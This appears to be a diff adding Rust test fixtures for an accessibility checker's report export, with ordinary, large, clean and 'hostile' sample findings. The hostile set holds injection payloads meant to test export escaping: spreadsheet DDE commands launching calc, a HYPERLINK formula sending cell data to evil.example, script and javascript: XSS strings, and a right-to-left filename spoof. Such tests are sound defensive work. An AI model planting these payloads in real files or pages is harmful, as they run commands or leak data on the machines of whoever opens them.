@@ -1,0 +1,138 @@
+//! Checks to export.
+
+use std::collections::BTreeMap;
+
+use a11ycheck_core::{
+    domain::{
+        Engine, Failure, FailureCode, Finding, Findings, Impact, PageOutcome, PlatformKey, RuleFacts, RuleId,
+        SiteDetails, SiteUrl,
+    },
+    export::{ExportFormat, ExportSource, write},
+    locale::Locale,
+};
+use chrono::{DateTime, Utc};
+
+pub(crate) const HOME: &str = "https://shop.example/";
+pub(crate) const CART: &str = "https://shop.example/cart?step=1&q=`a`";
+
+/// 1 June 2027, 12:00:00.123456.
+pub(crate) fn checked_at() -> DateTime<Utc> {
+    DateTime::from_timestamp(1_811_851_200, 123_456_000).unwrap()
+}
+
+pub(crate) fn site(name: &str) -> SiteDetails {
+    SiteDetails {
+        url: SiteUrl::parse(HOME).unwrap(),
+        name: Some(name.to_owned()),
+        report_locale: Locale::En,
+        stack: vec![PlatformKey::new("shopify")],
+        tags: vec![],
+    }
+}
+
+pub(crate) fn source<'a>(site: &'a SiteDetails, findings: &'a Findings, locale: Locale) -> ExportSource<'a> {
+    ExportSource { team: "Blue Team", site, checked_at: checked_at(), findings, locale }
+}
+
+pub(crate) fn exported(format: ExportFormat, site: &SiteDetails, findings: &Findings, locale: Locale) -> String {
+    let mut bytes = Vec::new();
+    write(format, &source(site, findings, locale), &mut bytes).unwrap();
+    String::from_utf8(bytes).unwrap()
+}
+
+fn facts(impact: Impact, tags: &[&str]) -> RuleFacts {
+    RuleFacts {
+        impact,
+        tags: tags.iter().map(|tag| (*tag).to_owned()).collect(),
+        help: "Pages must be kind".to_owned(),
+        description: "Ensure that `pages` are kind".to_owned(),
+        help_url: "https://rules.example/kind?a=[b]".to_owned(),
+    }
+}
+
+fn element(rule: &str, page: usize, selector: &str, html: &str) -> Finding {
+    let url = [HOME, CART, ""][page.min(2)];
+    Finding::new(RuleId::new(rule), page, url, selector, html, "Fix any of the following:\n  Say what it is")
+}
+
+fn findings_of(items: Vec<Finding>) -> Findings {
+    let rules = [
+        ("color-contrast", facts(Impact::Serious, &["cat.color", "wcag2aa", "wcag143", "EN-9.1.4.3"])),
+        ("image-alt", facts(Impact::Critical, &["wcag2a", "wcag111", "EN-9.1.1.1"])),
+        ("link-name", facts(Impact::Serious, &["wcag2a", "wcag244", "wcag412", "EN-9.2.4.4", "EN-9.4.1.2"])),
+        ("region", facts(Impact::Moderate, &["best-practice"])),
+        ("kind-page", facts(Impact::Minor, &["wcag2a"])),
+    ];
+    Findings {
+        engine: Engine { axe: "4.14.1".to_owned(), browser: "Chromium 150.0".to_owned() },
+        pages: vec![
+            PageOutcome::checked(HOME, "Shop"),
+            PageOutcome { frames_not_checked: 2, ..PageOutcome::checked(CART, "Cart") },
+            PageOutcome::checked("https://shop.example/about", "About"),
+            PageOutcome::failed(
+                "https://shop.example/old",
+                "",
+                Failure {
+                    code: FailureCode::HttpStatus,
+                    message: "The web server answered with status 404.".to_owned(),
+                },
+            ),
+        ],
+        rules: rules.into_iter().map(|(rule, facts)| (RuleId::new(rule), facts)).collect(),
+        items,
+        needs_review: BTreeMap::from([(RuleId::new("link-name"), 3)]),
+        stack: vec![],
+        screen: None,
+    }
+}
+
+/// What an ordinary check found: problems and recommendations, new and old elements, a rule that is not in the catalogue.
+pub(crate) fn ordinary() -> Findings {
+    let new = |finding: Finding| Finding { is_new: true, ..finding };
+    findings_of(vec![
+        element("color-contrast", 0, "main > p:nth-child(2)", "<p style=\"color: #aaa\">Ціна, 5 ₴</p>"),
+        new(element("color-contrast", 0, ".price", "<span class=\"price\">5 ₴</span>")),
+        element("image-alt", 0, "#logo", "<img id=\"logo\" src=\"/logo.png\">"),
+        element("region", 0, "div", "<div>Text</div>"),
+        new(element("color-contrast", 1, ".price", "<span class=\"price\">7 ₴</span>")),
+        element("kind-page", 1, "html", "<html>"),
+    ])
+}
+
+/// What a hostile site does to whoever opens the file.
+pub(crate) fn hostile() -> Findings {
+    let texts = [
+        "=HYPERLINK(\"https://evil.example?\"&A1,\"Click\")",
+        "x;=cmd|'/C calc'!A0;y",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "```\n\n# Owned\n\n``` and ` and ``",
+        "</script><script>alert(1)</script><!-- -->",
+        "{noformat}\n* [~admin] !https://evil.example/x.png!\n{noformat}",
+        "a,\"b\"\r\nc,'d',\"\"",
+        "\u{202e}txt.exe\u{2066} שלום 👩‍🦽 \u{1b}[31m \u{7}",
+        "@octocat #1 GH-1 org/repo#1 :bug: $x$ <b>[a](javascript:alert(1))",
+        "- [x] done",
+        "\u{feff}=1+1",
+        "",
+    ];
+    let long = "\"<='`{".repeat(170_000);
+    let all = texts.into_iter().chain([long.as_str()]);
+    findings_of(all.map(|text| element("color-contrast", 1, text, text)).collect())
+}
+
+/// What a check of a large and careless site found: `count` elements of one problem rule, as many on each of `pages` pages.
+pub(crate) fn large(count: usize, pages: usize) -> Findings {
+    let items = (0..count).map(|number| {
+        let page = number * pages / count;
+        element("color-contrast", page, &format!("main > div:nth-child({number}) > p"), "<p class=\"price\">5 ₴</p>")
+    });
+    Findings {
+        pages: (0..pages).map(|page| PageOutcome::checked(format!("https://shop.example/p/{page}"), "Page")).collect(),
+        ..findings_of(items.collect())
+    }
+}
+
+/// A check that found nothing.
+pub(crate) fn clean() -> Findings {
+    findings_of(vec![])
+}
